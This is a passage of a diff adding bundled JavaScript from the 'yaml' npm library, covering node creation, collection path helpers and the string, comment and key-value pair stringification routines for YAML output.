+    Scalar.QUOTE_DOUBLE = "QUOTE_DOUBLE";
+    Scalar.QUOTE_SINGLE = "QUOTE_SINGLE";
+    exports.Scalar = Scalar;
+    exports.isScalarValue = isScalarValue;
+  }
+});
+
+// node_modules/yaml/dist/doc/createNode.js
+var require_createNode = __commonJS({
+  "node_modules/yaml/dist/doc/createNode.js"(exports) {
+    "use strict";
+    var Alias = require_Alias();
+    var identity3 = require_identity();
+    var Scalar = require_Scalar();
+    var defaultTagPrefix = "tag:yaml.org,2002:";
+    function findTagObject(value, tagName, tags) {
+      if (tagName) {
+        const match = tags.filter((t) => t.tag === tagName);
+        const tagObj = match.find((t) => !t.format) ?? match[0];
+        if (!tagObj)
+          throw new Error(`Tag ${tagName} not found`);
+        return tagObj;
+      }
+      return tags.find((t) => t.identify?.(value) && !t.format);
+    }
+    function createNode(value, tagName, ctx) {
+      if (identity3.isDocument(value))
+        value = value.contents;
+      if (identity3.isNode(value))
+        return value;
+      if (identity3.isPair(value)) {
+        const map = ctx.schema[identity3.MAP].createNode?.(ctx.schema, null, ctx);
+        map.items.push(value);
+        return map;
+      }
+      if (value instanceof String || value instanceof Number || value instanceof Boolean || typeof BigInt !== "undefined" && value instanceof BigInt) {
+        value = value.valueOf();
+      }
+      const { aliasDuplicateObjects, onAnchor, onTagObj, schema, sourceObjects } = ctx;
+      let ref = void 0;
+      if (aliasDuplicateObjects && value && typeof value === "object") {
+        ref = sourceObjects.get(value);
+        if (ref) {
+          ref.anchor ?? (ref.anchor = onAnchor(value));
+          return new Alias.Alias(ref.anchor);
+        } else {
+          ref = { anchor: null, node: null };
+          sourceObjects.set(value, ref);
+        }
+      }
+      if (tagName?.startsWith("!!"))
+        tagName = defaultTagPrefix + tagName.slice(2);
+      let tagObj = findTagObject(value, tagName, schema.tags);
+      if (!tagObj) {
+        if (value && typeof value.toJSON === "function") {
+          value = value.toJSON();
+        }
+        if (!value || typeof value !== "object") {
+          const node2 = new Scalar.Scalar(value);
+          if (ref)
+            ref.node = node2;
+          return node2;
+        }
+        tagObj = value instanceof Map ? schema[identity3.MAP] : Symbol.iterator in Object(value) ? schema[identity3.SEQ] : schema[identity3.MAP];
+      }
+      if (onTagObj) {
+        onTagObj(tagObj);
+        delete ctx.onTagObj;
+      }
+      const node = tagObj?.createNode ? tagObj.createNode(ctx.schema, value, ctx) : typeof tagObj?.nodeClass?.from === "function" ? tagObj.nodeClass.from(ctx.schema, value, ctx) : new Scalar.Scalar(value);
+      if (tagName)
+        node.tag = tagName;
+      else if (!tagObj.default)
+        node.tag = tagObj.tag;
+      if (ref)
+        ref.node = node;
+      return node;
+    }
+    exports.createNode = createNode;
+  }
+});
+
+// node_modules/yaml/dist/nodes/Collection.js
+var require_Collection = __commonJS({
+  "node_modules/yaml/dist/nodes/Collection.js"(exports) {
+    "use strict";
+    var createNode = require_createNode();
+    var identity3 = require_identity();
+    var Node2 = require_Node();
+    function collectionFromPath(schema, path6, value) {
+      let v = value;
+      for (let i3 = path6.length - 1; i3 >= 0; --i3) {
+        const k = path6[i3];
+        if (typeof k === "number" && Number.isInteger(k) && k >= 0) {
+          const a2 = [];
+          a2[k] = v;
+          v = a2;
+        } else {
+          v = /* @__PURE__ */ new Map([[k, v]]);
+        }
+      }
+      return createNode.createNode(v, void 0, {
+        aliasDuplicateObjects: false,
+        keepUndefined: false,
+        onAnchor: () => {
+          throw new Error("This should not happen, please report a bug.");
+        },
+        schema,
+        sourceObjects: /* @__PURE__ */ new Map()
+      });
+    }
+    var isEmptyPath = (path6) => path6 == null || typeof path6 === "object" && !!path6[Symbol.iterator]().next().done;
+    var Collection = class extends Node2.NodeBase {
+      constructor(type, schema) {
+        super(type);
+        Object.defineProperty(this, "schema", {
+          value: schema,
+          configurable: true,
+          enumerable: false,
+          writable: true
+        });
+      }
+      /**
+       * Create a copy of this collection.
+       *
+       * @param schema - If defined, overwrites the original's schema
+       */
+      clone(schema) {
+        const copy = Object.create(Object.getPrototypeOf(this), Object.getOwnPropertyDescriptors(this));
+        if (schema)
+          copy.schema = schema;
+        copy.items = copy.items.map((it) => identity3.isNode(it) || identity3.isPair(it) ? it.clone(schema) : it);
+        if (this.range)
+          copy.range = this.range.slice();
+        return copy;
+      }
+      /**
+       * Adds a value to the collection. For `!!map` and `!!omap` the value must
+       * be a Pair instance or a `{ key, value }` object, which may not have a key
+       * that already exists in the map.
+       */
+      addIn(path6, value) {
+        if (isEmptyPath(path6))
+          this.add(value);
+        else {
+          const [key, ...rest] = path6;
+          const node = this.get(key, true);
+          if (identity3.isCollection(node))
+            node.addIn(rest, value);
+          else if (node === void 0 && this.schema)
+            this.set(key, collectionFromPath(this.schema, rest, value));
+          else
+            throw new Error(`Expected YAML collection at ${key}. Remaining path: ${rest}`);
+        }
+      }
+      /**
+       * Removes a value from the collection.
+       * @returns `true` if the item was found and removed.
+       */
+      deleteIn(path6) {
+        const [key, ...rest] = path6;
+        if (rest.length === 0)
+          return this.delete(key);
+        const node = this.get(key, true);
+        if (identity3.isCollection(node))
+          return node.deleteIn(rest);
+        else
+          throw new Error(`Expected YAML collection at ${key}. Remaining path: ${rest}`);
+      }
+      /**
+       * Returns item at `key`, or `undefined` if not found. By default unwraps
+       * scalar values from their surrounding node; to disable set `keepScalar` to
+       * `true` (collections are always returned intact).
+       */
+      getIn(path6, keepScalar) {
+        const [key, ...rest] = path6;
+        const node = this.get(key, true);
+        if (rest.length === 0)
+          return !keepScalar && identity3.isScalar(node) ? node.value : node;
+        else
+          return identity3.isCollection(node) ? node.getIn(rest, keepScalar) : void 0;
+      }
+      hasAllNullValues(allowScalar) {
+        return this.items.every((node) => {
+          if (!identity3.isPair(node))
+            return false;
+          const n2 = node.value;
+          return n2 == null || allowScalar && identity3.isScalar(n2) && n2.value == null && !n2.commentBefore && !n2.comment && !n2.tag;
+        });
+      }
+      /**
+       * Checks if the collection includes a value with the key `key`.
+       */
+      hasIn(path6) {
+        const [key, ...rest] = path6;
+        if (rest.length === 0)
+          return this.has(key);
+        const node = this.get(key, true);
+        return identity3.isCollection(node) ? node.hasIn(rest) : false;
+      }
+      /**
+       * Sets a value in this collection. For `!!set`, `value` needs to be a
+       * boolean to add/remove the item from the set.
+       */
+      setIn(path6, value) {
+        const [key, ...rest] = path6;
+        if (rest.length === 0) {
+          this.set(key, value);
+        } else {
+          const node = this.get(key, true);
+          if (identity3.isCollection(node))
+            node.setIn(rest, value);
+          else if (node === void 0 && this.schema)
+            this.set(key, collectionFromPath(this.schema, rest, value));
+          else
+            throw new Error(`Expected YAML collection at ${key}. Remaining path: ${rest}`);
+        }
+      }
+    };
+    exports.Collection = Collection;
+    exports.collectionFromPath = collectionFromPath;
+    exports.isEmptyPath = isEmptyPath;
+  }
+});
+
+// node_modules/yaml/dist/stringify/stringifyComment.js
+var require_stringifyComment = __commonJS({
+  "node_modules/yaml/dist/stringify/stringifyComment.js"(exports) {
+    "use strict";
+    var stringifyComment = (str2) => str2.replace(/^(?!$)(?: $)?/gm, "#");
+    function indentComment(comment, indent) {
+      if (/^\n+$/.test(comment))
+        return comment.substring(1);
+      return indent ? comment.replace(/^(?! *$)/gm, indent) : comment;
+    }
+    var lineComment = (str2, indent, comment) => str2.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str2.endsWith(" ") ? "" : " ") + comment;
+    exports.indentComment = indentComment;
+    exports.lineComment = lineComment;
+    exports.stringifyComment = stringifyComment;
+  }
+});
+
+// node_modules/yaml/dist/stringify/foldFlowLines.js
+var require_foldFlowLines = __commonJS({
+  "node_modules/yaml/dist/stringify/foldFlowLines.js"(exports) {
+    "use strict";
+    var FOLD_FLOW = "flow";
+    var FOLD_BLOCK = "block";
+    var FOLD_QUOTED = "quoted";
+    function foldFlowLines(text, indent, mode = "flow", { indentAtStart, lineWidth = 80, minContentWidth = 20, onFold, onOverflow } = {}) {
+      if (!lineWidth || lineWidth < 0)
+        return text;
+      if (lineWidth < minContentWidth)
+        minContentWidth = 0;
+      const endStep = Math.max(1 + minContentWidth, 1 + lineWidth - indent.length);
+      if (text.length <= endStep)
+        return text;
+      const folds = [];
+      const escapedFolds = {};
+      let end = lineWidth - indent.length;
+      if (typeof indentAtStart === "number") {
+        if (indentAtStart > lineWidth - Math.max(2, minContentWidth))
+          folds.push(0);
+        else
+          end = lineWidth - indentAtStart;
+      }
+      let split = void 0;
+      let prev = void 0;
+      let overflow = false;
+      let i3 = -1;
+      let escStart = -1;
+      let escEnd = -1;
+      if (mode === FOLD_BLOCK) {
+        i3 = consumeMoreIndentedLines(text, i3, indent.length);
+        if (i3 !== -1)
+          end = i3 + endStep;
+      }
+      for (let ch; ch = text[i3 += 1]; ) {
+        if (mode === FOLD_QUOTED && ch === "\\") {
+          escStart = i3;
+          switch (text[i3 + 1]) {
+            case "x":
+              i3 += 3;
+              break;
+            case "u":
+              i3 += 5;
+              break;
+            case "U":
+              i3 += 9;
+              break;
+            default:
+              i3 += 1;
+          }
+          escEnd = i3;
+        }
+        if (ch === "\n") {
+          if (mode === FOLD_BLOCK)
+            i3 = consumeMoreIndentedLines(text, i3, indent.length);
+          end = i3 + indent.length + endStep;
+          split = void 0;
+        } else {
+          if (ch === " " && prev && prev !== " " && prev !== "\n" && prev !== "	") {
+            const next = text[i3 + 1];
+            if (next && next !== " " && next !== "\n" && next !== "	")
+              split = i3;
+          }
+          if (i3 >= end) {
+            if (split) {
+              folds.push(split);
+              end = split + endStep;
+              split = void 0;
+            } else if (mode === FOLD_QUOTED) {
+              while (prev === " " || prev === "	") {
+                prev = ch;
+                ch = text[i3 += 1];
+                overflow = true;
+              }
+              const j = i3 > escEnd + 1 ? i3 - 2 : escStart - 1;
+              if (escapedFolds[j])
+                return text;
+              folds.push(j);
+              escapedFolds[j] = true;
+              end = j + endStep;
+              split = void 0;
+            } else {
+              overflow = true;
+            }
+          }
+        }
+        prev = ch;
+      }
+      if (overflow && onOverflow)
+        onOverflow();
+      if (folds.length === 0)
+        return text;
+      if (onFold)
+        onFold();
+      let res = text.slice(0, folds[0]);
+      for (let i4 = 0; i4 < folds.length; ++i4) {
+        const fold = folds[i4];
+        const end2 = folds[i4 + 1] || text.length;
+        if (fold === 0)
+          res = `
+${indent}${text.slice(0, end2)}`;
+        else {
+          if (mode === FOLD_QUOTED && escapedFolds[fold])
+            res += `${text[fold]}\\`;
+          res += `
+${indent}${text.slice(fold + 1, end2)}`;
+        }
+      }
+      return res;
+    }
+    function consumeMoreIndentedLines(text, i3, indent) {
+      let end = i3;
+      let start2 = i3 + 1;
+      let ch = text[start2];
+      while (ch === " " || ch === "	") {
+        if (i3 < start2 + indent) {
+          ch = text[++i3];
+        } else {
+          do {
+            ch = text[++i3];
+          } while (ch && ch !== "\n");
+          end = i3;
+          start2 = i3 + 1;
+          ch = text[start2];
+        }
+      }
+      return end;
+    }
+    exports.FOLD_BLOCK = FOLD_BLOCK;
+    exports.FOLD_FLOW = FOLD_FLOW;
+    exports.FOLD_QUOTED = FOLD_QUOTED;
+    exports.foldFlowLines = foldFlowLines;
+  }
+});
+
+// node_modules/yaml/dist/stringify/stringifyString.js
+var require_stringifyString = __commonJS({
+  "node_modules/yaml/dist/stringify/stringifyString.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    var foldFlowLines = require_foldFlowLines();
+    var getFoldOptions = (ctx, isBlock) => ({
+      indentAtStart: isBlock ? ctx.indent.length : ctx.indentAtStart,
+      lineWidth: ctx.options.lineWidth,
+      minContentWidth: ctx.options.minContentWidth
+    });
+    var containsDocumentMarker = (str2) => /^(%|---|\.\.\.)/m.test(str2);
+    function lineLengthOverLimit(str2, lineWidth, indentLength) {
+      if (!lineWidth || lineWidth < 0)
+        return false;
+      const limit = lineWidth - indentLength;
+      const strLen = str2.length;
+      if (strLen <= limit)
+        return false;
+      for (let i3 = 0, start2 = 0; i3 < strLen; ++i3) {
+        if (str2[i3] === "\n") {
+          if (i3 - start2 > limit)
+            return true;
+          start2 = i3 + 1;
+          if (strLen - start2 <= limit)
+            return false;
+        }
+      }
+      return true;
+    }
+    function doubleQuotedString(value, ctx) {
+      const json = JSON.stringify(value);
+      if (ctx.options.doubleQuotedAsJSON)
+        return json;
+      const { implicitKey } = ctx;
+      const minMultiLineLength = ctx.options.doubleQuotedMinMultiLineLength;
+      const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
+      let str2 = "";
+      let start2 = 0;
+      for (let i3 = 0, ch = json[i3]; ch; ch = json[++i3]) {
+        if (ch === " " && json[i3 + 1] === "\\" && json[i3 + 2] === "n") {
+          str2 += json.slice(start2, i3) + "\\ ";
+          i3 += 1;
+          start2 = i3;
+          ch = "\\";
+        }
+        if (ch === "\\")
+          switch (json[i3 + 1]) {
+            case "u":
+              {
+                str2 += json.slice(start2, i3);
+                const code = json.substr(i3 + 2, 4);
+                switch (code) {
+                  case "0000":
+                    str2 += "\\0";
+                    break;
+                  case "0007":
+                    str2 += "\\a";
+                    break;
+                  case "000b":
+                    str2 += "\\v";
+                    break;
+                  case "001b":
+                    str2 += "\\e";
+                    break;
+                  case "0085":
+                    str2 += "\\N";
+                    break;
+                  case "00a0":
+                    str2 += "\\_";
+                    break;
+                  case "2028":
+                    str2 += "\\L";
+                    break;
+                  case "2029":
+                    str2 += "\\P";
+                    break;
+                  default:
+                    if (code.substr(0, 2) === "00")
+                      str2 += "\\x" + code.substr(2);
+                    else
+                      str2 += json.substr(i3, 6);
+                }
+                i3 += 5;
+                start2 = i3 + 1;
+              }
+              break;
+            case "n":
+              if (implicitKey || json[i3 + 2] === '"' || json.length < minMultiLineLength) {
+                i3 += 1;
+              } else {
+                str2 += json.slice(start2, i3) + "\n\n";
+                while (json[i3 + 2] === "\\" && json[i3 + 3] === "n" && json[i3 + 4] !== '"') {
+                  str2 += "\n";
+                  i3 += 2;
+                }
+                str2 += indent;
+                if (json[i3 + 2] === " ")
+                  str2 += "\\";
+                i3 += 1;
+                start2 = i3 + 1;
+              }
+              break;
+            default:
+              i3 += 1;
+          }
+      }
+      str2 = start2 ? str2 + json.slice(start2) : json;
+      return implicitKey ? str2 : foldFlowLines.foldFlowLines(str2, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
+    }
+    function singleQuotedString(value, ctx) {
+      if (ctx.options.singleQuote === false || ctx.implicitKey && value.includes("\n") || /[ \t]\n|\n[ \t]/.test(value))
+        return doubleQuotedString(value, ctx);
+      const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
+      const res = "'" + value.replace(/'/g, "''").replace(/\n+/g, `$&
+${indent}`) + "'";
+      return ctx.implicitKey ? res : foldFlowLines.foldFlowLines(res, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
+    }
+    function quotedString(value, ctx) {
+      const { singleQuote } = ctx.options;
+      let qs;
+      if (singleQuote === false)
+        qs = doubleQuotedString;
+      else {
+        const hasDouble = value.includes('"');
+        const hasSingle = value.includes("'");
+        if (hasDouble && !hasSingle)
+          qs = singleQuotedString;
+        else if (hasSingle && !hasDouble)
+          qs = doubleQuotedString;
+        else
+          qs = singleQuote ? singleQuotedString : doubleQuotedString;
+      }
+      return qs(value, ctx);
+    }
+    var blockEndNewlines;
+    try {
+      blockEndNewlines = new RegExp("(^|(?<!\n))\n+(?!\n|$)", "g");
+    } catch {
+      blockEndNewlines = /\n+(?!\n|$)/g;
+    }
+    function blockString({ comment, type, value }, ctx, onComment, onChompKeep) {
+      const { blockQuote, commentString, lineWidth } = ctx.options;
+      if (!blockQuote || /\n[\t ]+$/.test(value)) {
+        return quotedString(value, ctx);
+      }
+      const indent = ctx.indent || (ctx.forceBlockIndent || containsDocumentMarker(value) ? "  " : "");
+      const literal2 = blockQuote === "literal" ? true : blockQuote === "folded" || type === Scalar.Scalar.BLOCK_FOLDED ? false : type === Scalar.Scalar.BLOCK_LITERAL ? true : !lineLengthOverLimit(value, lineWidth, indent.length);
+      if (!value)
+        return literal2 ? "|\n" : ">\n";
+      let chomp;
+      let endStart;
+      for (endStart = value.length; endStart > 0; --endStart) {
+        const ch = value[endStart - 1];
+        if (ch !== "\n" && ch !== "	" && ch !== " ")
+          break;
+      }
+      let end = value.substring(endStart);
+      const endNlPos = end.indexOf("\n");
+      if (endNlPos === -1) {
+        chomp = "-";
+      } else if (value === end || endNlPos !== end.length - 1) {
+        chomp = "+";
+        if (onChompKeep)
+          onChompKeep();
+      } else {
+        chomp = "";
+      }
+      if (end) {
+        value = value.slice(0, -end.length);
+        if (end[end.length - 1] === "\n")
+          end = end.slice(0, -1);
+        end = end.replace(blockEndNewlines, `$&${indent}`);
+      }
+      let startWithSpace = false;
+      let startEnd;
+      let startNlPos = -1;
+      for (startEnd = 0; startEnd < value.length; ++startEnd) {
+        const ch = value[startEnd];
+        if (ch === " ")
+          startWithSpace = true;
+        else if (ch === "\n")
+          startNlPos = startEnd;
+        else
+          break;
+      }
+      let start2 = value.substring(0, startNlPos < startEnd ? startNlPos + 1 : startEnd);
+      if (start2) {
+        value = value.substring(start2.length);
+        start2 = start2.replace(/\n+/g, `$&${indent}`);
+      }
+      const indentSize = indent ? "2" : "1";
+      let header = (startWithSpace ? indentSize : "") + chomp;
+      if (comment) {
+        header += " " + commentString(comment.replace(/ ?[\r\n]+/g, " "));
+        if (onComment)
+          onComment();
+      }
+      if (!literal2) {
+        const foldedValue = value.replace(/\n+/g, "\n$&").replace(/(?:^|\n)([\t ].*)(?:([\n\t ]*)\n(?![\n\t ]))?/g, "$1$2").replace(/\n+/g, `$&${indent}`);
+        let literalFallback = false;
+        const foldOptions = getFoldOptions(ctx, true);
+        if (blockQuote !== "folded" && type !== Scalar.Scalar.BLOCK_FOLDED) {
+          foldOptions.onOverflow = () => {
+            literalFallback = true;
+          };
+        }
+        const body2 = foldFlowLines.foldFlowLines(`${start2}${foldedValue}${end}`, indent, foldFlowLines.FOLD_BLOCK, foldOptions);
+        if (!literalFallback)
+          return `>${header}
+${indent}${body2}`;
+      }
+      value = value.replace(/\n+/g, `$&${indent}`);
+      return `|${header}
+${indent}${start2}${value}${end}`;
+    }
+    function plainString(item, ctx, onComment, onChompKeep) {
+      const { type, value } = item;
+      const { actualString, implicitKey, indent, indentStep, inFlow } = ctx;
+      if (implicitKey && value.includes("\n") || inFlow && /[[\]{},]/.test(value)) {
+        return quotedString(value, ctx);
+      }
+      if (/^[\n\t ,[\]{}#&*!|>'"%@`]|^[?-]$|^[?-][ \t]|[\n:][ \t]|[ \t]\n|[\n\t ]#|[\n\t :]$/.test(value)) {
+        return implicitKey || inFlow || !value.includes("\n") ? quotedString(value, ctx) : blockString(item, ctx, onComment, onChompKeep);
+      }
+      if (!implicitKey && !inFlow && type !== Scalar.Scalar.PLAIN && value.includes("\n")) {
+        return blockString(item, ctx, onComment, onChompKeep);
+      }
+      if (containsDocumentMarker(value)) {
+        if (indent === "") {
+          ctx.forceBlockIndent = true;
+          return blockString(item, ctx, onComment, onChompKeep);
+        } else if (implicitKey && indent === indentStep) {
+          return quotedString(value, ctx);
+        }
+      }
+      const str2 = value.replace(/\n+/g, `$&
+${indent}`);
+      if (actualString) {
+        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str2);
+        const { compat, tags } = ctx.doc.schema;
+        if (tags.some(test) || compat?.some(test))
+          return quotedString(value, ctx);
+      }
+      return implicitKey ? str2 : foldFlowLines.foldFlowLines(str2, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
+    }
+    function stringifyString(item, ctx, onComment, onChompKeep) {
+      const { implicitKey, inFlow } = ctx;
+      const ss = typeof item.value === "string" ? item : Object.assign({}, item, { value: String(item.value) });
+      let { type } = item;
+      if (type !== Scalar.Scalar.QUOTE_DOUBLE) {
+        if (/[\x00-\x08\x0b-\x1f\x7f-\x9f\u{D800}-\u{DFFF}]/u.test(ss.value))
+          type = Scalar.Scalar.QUOTE_DOUBLE;
+      }
+      const _stringify = (_type) => {
+        switch (_type) {
+          case Scalar.Scalar.BLOCK_FOLDED:
+          case Scalar.Scalar.BLOCK_LITERAL:
+            return implicitKey || inFlow ? quotedString(ss.value, ctx) : blockString(ss, ctx, onComment, onChompKeep);
+          case Scalar.Scalar.QUOTE_DOUBLE:
+            return doubleQuotedString(ss.value, ctx);
+          case Scalar.Scalar.QUOTE_SINGLE:
+            return singleQuotedString(ss.value, ctx);
+          case Scalar.Scalar.PLAIN:
+            return plainString(ss, ctx, onComment, onChompKeep);
+          default:
+            return null;
+        }
+      };
+      let res = _stringify(type);
+      if (res === null) {
+        const { defaultKeyType, defaultStringType } = ctx.options;
+        const t = implicitKey && defaultKeyType || defaultStringType;
+        res = _stringify(t);
+        if (res === null)
+          throw new Error(`Unsupported default string type ${t}`);
+      }
+      return res;
+    }
+    exports.stringifyString = stringifyString;
+  }
+});
+
+// node_modules/yaml/dist/stringify/stringify.js
+var require_stringify = __commonJS({
+  "node_modules/yaml/dist/stringify/stringify.js"(exports) {
+    "use strict";
+    var anchors = require_anchors();
+    var identity3 = require_identity();
+    var stringifyComment = require_stringifyComment();
+    var stringifyString = require_stringifyString();
+    function createStringifyContext(doc, options) {
+      const opt = Object.assign({
+        blockQuote: true,
+        commentString: stringifyComment.stringifyComment,
+        defaultKeyType: null,
+        defaultStringType: "PLAIN",
+        directives: null,
+        doubleQuotedAsJSON: false,
+        doubleQuotedMinMultiLineLength: 40,
+        falseStr: "false",
+        flowCollectionPadding: true,
+        indentSeq: true,
+        lineWidth: 80,
+        minContentWidth: 20,
+        nullStr: "null",
+        simpleKeys: false,
+        singleQuote: null,
+        trailingComma: false,
+        trueStr: "true",
+        verifyAliasOrder: true
+      }, doc.schema.toStringOptions, options);
+      let inFlow;
+      switch (opt.collectionStyle) {
+        case "block":
+          inFlow = false;
+          break;
+        case "flow":
+          inFlow = true;
+          break;
+        default:
+          inFlow = null;
+      }
+      return {
+        anchors: /* @__PURE__ */ new Set(),
+        doc,
+        flowCollectionPadding: opt.flowCollectionPadding ? " " : "",
+        indent: "",
+        indentStep: typeof opt.indent === "number" ? " ".repeat(opt.indent) : "  ",
+        inFlow,
+        options: opt
+      };
+    }
+    function getTagObject(tags, item) {
+      if (item.tag) {
+        const match = tags.filter((t) => t.tag === item.tag);
+        if (match.length > 0)
+          return match.find((t) => t.format === item.format) ?? match[0];
+      }
+      let tagObj = void 0;
+      let obj;
+      if (identity3.isScalar(item)) {
+        obj = item.value;
+        let match = tags.filter((t) => t.identify?.(obj));
+        if (match.length > 1) {
+          const testMatch = match.filter((t) => t.test);
+          if (testMatch.length > 0)
+            match = testMatch;
+        }
+        tagObj = match.find((t) => t.format === item.format) ?? match.find((t) => !t.format);
+      } else {
+        obj = item;
+        tagObj = tags.find((t) => t.nodeClass && obj instanceof t.nodeClass);
+      }
+      if (!tagObj) {
+        const name2 = obj?.constructor?.name ?? (obj === null ? "null" : typeof obj);
+        throw new Error(`Tag not resolved for ${name2} value`);
+      }
+      return tagObj;
+    }
+    function stringifyProps(node, tagObj, { anchors: anchors$1, doc }) {
+      if (!doc.directives)
+        return "";
+      const props = [];
+      const anchor = (identity3.isScalar(node) || identity3.isCollection(node)) && node.anchor;
+      if (anchor && anchors.anchorIsValid(anchor)) {
+        anchors$1.add(anchor);
+        props.push(`&${anchor}`);
+      }
+      const tag = node.tag ?? (tagObj.default ? null : tagObj.tag);
+      if (tag)
+        props.push(doc.directives.tagString(tag));
+      return props.join(" ");
+    }
+    function stringify(item, ctx, onComment, onChompKeep) {
+      if (identity3.isPair(item))
+        return item.toString(ctx, onComment, onChompKeep);
+      if (identity3.isAlias(item)) {
+        if (ctx.doc.directives)
+          return item.toString(ctx);
+        if (ctx.resolvedAliases?.has(item)) {
+          throw new TypeError(`Cannot stringify circular structure without alias nodes`);
+        } else {
+          if (ctx.resolvedAliases)
+            ctx.resolvedAliases.add(item);
+          else
+            ctx.resolvedAliases = /* @__PURE__ */ new Set([item]);
+          item = item.resolve(ctx.doc);
+        }
+      }
+      let tagObj = void 0;
+      const node = identity3.isNode(item) ? item : ctx.doc.createNode(item, { onTagObj: (o2) => tagObj = o2 });
+      tagObj ?? (tagObj = getTagObject(ctx.doc.schema.tags, node));
+      const props = stringifyProps(node, tagObj, ctx);
+      if (props.length > 0)
+        ctx.indentAtStart = (ctx.indentAtStart ?? 0) + props.length + 1;
+      const str2 = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity3.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
+      if (!props)
+        return str2;
+      return identity3.isScalar(node) || str2[0] === "{" || str2[0] === "[" ? `${props} ${str2}` : `${props}
+${ctx.indent}${str2}`;
+    }
+    exports.createStringifyContext = createStringifyContext;
+    exports.stringify = stringify;
+  }
+});
+
+// node_modules/yaml/dist/stringify/stringifyPair.js
+var require_stringifyPair = __commonJS({
+  "node_modules/yaml/dist/stringify/stringifyPair.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Scalar = require_Scalar();
+    var stringify = require_stringify();
+    var stringifyComment = require_stringifyComment();
+    function stringifyPair({ key, value }, ctx, onComment, onChompKeep) {
+      const { allNullValues, doc, indent, indentStep, options: { commentString, indentSeq, simpleKeys } } = ctx;
+      let keyComment = identity3.isNode(key) && key.comment || null;
+      if (simpleKeys) {
+        if (keyComment) {
+          throw new Error("With simple keys, key nodes cannot have comments");
+        }
+        if (identity3.isCollection(key) || !identity3.isNode(key) && typeof key === "object") {
+          const msg = "With simple keys, collection cannot be used as a key value";
+          throw new Error(msg);
+        }
+      }
+      let explicitKey = !simpleKeys && (!key || keyComment && value == null && !ctx.inFlow || identity3.isCollection(key) || (identity3.isScalar(key) ? key.type === Scalar.Scalar.BLOCK_FOLDED || key.type === Scalar.Scalar.BLOCK_LITERAL : typeof key === "object"));
+      ctx = Object.assign({}, ctx, {
+        allNullValues: false,
+        implicitKey: !explicitKey && (simpleKeys || !allNullValues),
+        indent: indent + indentStep
+      });
+      let keyCommentDone = false;
+      let chompKeep = false;
+      let str2 = stringify.stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
+      if (!explicitKey && !ctx.inFlow && str2.length > 1024) {
+        if (simpleKeys)
+          throw new Error("With simple keys, single line scalar must not span more than 1024 characters");
+        explicitKey = true;
+      }
+      if (ctx.inFlow) {
+        if (allNullValues || value == null) {
+          if (keyCommentDone && onComment)
+            onComment();
+          return str2 === "" ? "?" : explicitKey ? `? ${str2}` : str2;
+        }
+      } else if (allNullValues && !simpleKeys || value == null && explicitKey) {
+        str2 = `? ${str2}`;
+        if (keyComment && !keyCommentDone) {
+          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
+        } else if (chompKeep && onChompKeep)
+          onChompKeep();
+        return str2;
+      }
+      if (keyCommentDone)
+        keyComment = null;
+      if (explicitKey) {
+        if (keyComment)
+          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
+        str2 = `? ${str2}
+${indent}:`;
+      } else {
+        str2 = `${str2}:`;
+        if (keyComment)
+          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
+      }
+      let vsb, vcb, valueComment;
+      if (identity3.isNode(value)) {
+        vsb = !!value.spaceBefore;
+        vcb = value.commentBefore;
+        valueComment = value.comment;
+      } else {
+        vsb = false;
+        vcb = null;
+        valueComment = null;
+        if (value && typeof value === "object")
+          value = doc.createNode(value);
+      }
+      ctx.implicitKey = false;
+      if (!explicitKey && !keyComment && identity3.isScalar(value))
+        ctx.indentAtStart = str2.length + 1;
+      chompKeep = false;
+      if (!indentSeq && indentStep.length >= 2 && !ctx.inFlow && !explicitKey && identity3.isSeq(value) && !value.flow && !value.tag && !value.anchor) {
+        ctx.indent = ctx.indent.substring(2);
+      }
+      let valueCommentDone = false;
+      const valueStr = stringify.stringify(value, ctx, () => valueCommentDone = true, () => chompKeep = true);
+      let ws = " ";
+      if (keyComment || vsb || vcb) {
+        ws = vsb ? "\n" : "";
+        if (vcb) {
+          const cs = commentString(vcb);
+          ws += `
+${stringifyComment.indentComment(cs, ctx.indent)}`;
+        }
+        if (valueStr === "" && !ctx.inFlow) {
+          if (ws === "\n" && valueComment)
+            ws = "\n\n";
+        } else {
+          ws += `
+${ctx.indent}`;
+        }
+      } else if (!explicitKey && identity3.isCollection(value)) {
+        const vs0 = valueStr[0];
+        const nl0 = valueStr.indexOf("\n");
+        const hasNewline = nl0 !== -1;
+        const flow = ctx.inFlow ?? value.flow ?? value.items.length === 0;
+        if (hasNewline || !flow) {
+          let hasPropsLine = false;
+          if (hasNewline && (vs0 === "&" || vs0 === "!")) {
+            let sp0 = valueStr.indexOf(" ");
+            if (vs0 === "&" && sp0 !== -1 && sp0 < nl0 && valueStr[sp0 + 1] === "!") {
+              sp0 = valueStr.indexOf(" ", sp0 + 1);
+            }
+            if (sp0 === -1 || nl0 < sp0)
+              hasPropsLine = true;
+          }
+          if (!hasPropsLine)
+            ws = `
+${ctx.indent}`;
+        }
+      } else if (valueStr === "" || valueStr[0] === "\n") {
+        ws = "";
+      }
+      str2 += ws + valueStr;
+      if (ctx.inFlow) {
+        if (valueCommentDone && onComment)
+          onComment();
+      } else if (valueComment && !valueCommentDone) {
+        str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(valueComment));
+      } else if (chompKeep && onChompKeep) {
+        onChompKeep();
+      }
+      return str2;
+    }
+    exports.stringifyPair = stringifyPair;
+  }
+});
+
+// node_modules/yaml/dist/log.js
+var require_log = __commonJS({
+  "node_modules/yaml/dist/log.js"(exports) {
+    "use strict";
+    var node_process = __require("process");
+    function debug(logLevel, ...messages) {
